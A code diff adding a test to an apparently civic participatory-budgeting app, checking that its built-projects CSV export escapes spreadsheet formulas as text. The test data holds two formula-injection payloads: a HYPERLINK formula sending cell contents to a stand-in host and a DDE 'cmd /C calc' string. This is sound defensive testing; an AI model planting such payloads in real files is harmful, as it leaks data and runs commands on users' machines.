@@ -541,3 +541,17 @@ def test_after_the_submission_deadline_the_author_can_no_longer_remove_a_photo(c
     assert path not in client.get(f"/my/proposals/{proposal.id}").text
     assert client.post(path, data={"confirm": "y"}).status_code == 403
     assert db.session.get(Photo, photo.id) is not None and len(_photo_files(client)) == 2
+
+
+def test_the_built_csv_shows_a_resident_s_formula_as_text(client, setup):
+    """A title the author wrote, or a reason an official typed, that a spreadsheet would run
+    (=, +, -, @) opens as text, as in the results' CSV."""
+    record, _ = setup
+    record.proposal.title = '=HYPERLINK("http://zlo.example/?"&A1,"Lavičky")'
+    record.proposal.category.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    db.session.commit()
+    slug = record.proposal.edition.slug
+    rows = list(csv.DictReader(io.StringIO(client.get(f"/editions/{slug}/built.csv").text)))
+    assert rows[0]["title"] == '\'=HYPERLINK("http://zlo.example/?"&A1,"Lavičky")'
+    assert rows[0]["group"].startswith("'@")
+    assert rows[0]["planned_cost"].lstrip("-").isdigit()  # numbers stay numbers
